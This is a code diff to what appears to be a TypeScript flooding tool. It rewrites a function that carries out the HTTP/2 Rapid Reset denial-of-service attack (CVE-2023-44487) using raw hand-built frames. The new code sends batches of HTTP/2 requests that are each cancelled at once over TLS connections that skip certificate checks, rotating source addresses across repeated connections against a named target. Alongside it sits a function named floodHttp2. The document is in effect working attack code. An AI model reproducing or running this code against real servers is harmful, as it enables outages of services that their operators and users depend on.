@@ -1,5 +1,4 @@
 import { Agent, get } from "node:http";
-import { connect as connectHttp2, constants } from "node:http2";
 import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
 import { connect as connectTls } from "node:tls";
@@ -127,41 +126,43 @@ function floodHttp2({ target, from, count: connections }: Orders, begin: Buffer,
   }
 }
 
+/** A request for /api/entries that ends at once, in HPACK (RFC 7541), and the code with which it is taken back (CANCEL). */
+const REQUEST = Buffer.concat([Buffer.from([0x82, 0x87, 0x04, 12]), Buffer.from("/api/entries")]);
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+
 /** Requests that are each taken back at once (CVE-2023-44487), on connection after connection. */
 async function resetRapidly({ target, from, seconds }: Orders): Promise<void> {
   const until = Date.now() + seconds * 1000;
   for (let index = 0; Date.now() < until; index++) {
     await new Promise<void>((resolve) => {
       const raw = connect({ host: target, port: 443, localAddress: from[index % from.length] });
-      raw.on("error", () => {});
-      const session = connectHttp2(`https://${target}`, {
-        createConnection: () =>
-          connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ["h2"] }),
-      });
-      session.on("error", () => {});
+      follow(raw);
       const end = setTimeout(() => raw.destroy(), until - Date.now());
-      // Also before there was a session.
       raw.on("close", () => {
         clearTimeout(end);
-        session.destroy();
-        outcome.ended++;
         setTimeout(resolve, 50);
       });
-      const go = () => {
-        for (let some = 0; some < 100 && !session.closed && !session.destroyed; some++) {
-          const stream = session.request({ ":path": "/api/entries" });
-          stream.on("error", () => {});
-          stream.on("response", (headers) => count(headers[":status"] as number));
-          stream.close(constants.NGHTTP2_CANCEL);
-          count("taken back");
-        }
-        if (session.closed || session.destroyed) {
-          raw.destroy();
-        } else {
-          setImmediate(go);
-        }
-      };
-      session.on("connect", go);
+      const socket = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
+      socket.on("error", () => raw.destroy());
+      socket.on("end", () => raw.destroy());
+      socket.resume();
+      socket.on("secureConnect", () => {
+        socket.write(HTTP2_BEGIN);
+        let stream = 1;
+        const go = () => {
+          if (socket.destroyed || raw.destroyed) {
+            return;
+          }
+          const frames: Buffer[] = [];
+          for (let some = 0; some < 100; some++) {
+            frames.push(frame(1, 5, stream, REQUEST), frame(3, 0, stream, CANCEL));
+            stream += 2;
+            count("taken back");
+          }
+          socket.write(Buffer.concat(frames), () => setImmediate(go));
+        };
+        go();
+      });
     });
   }
 }
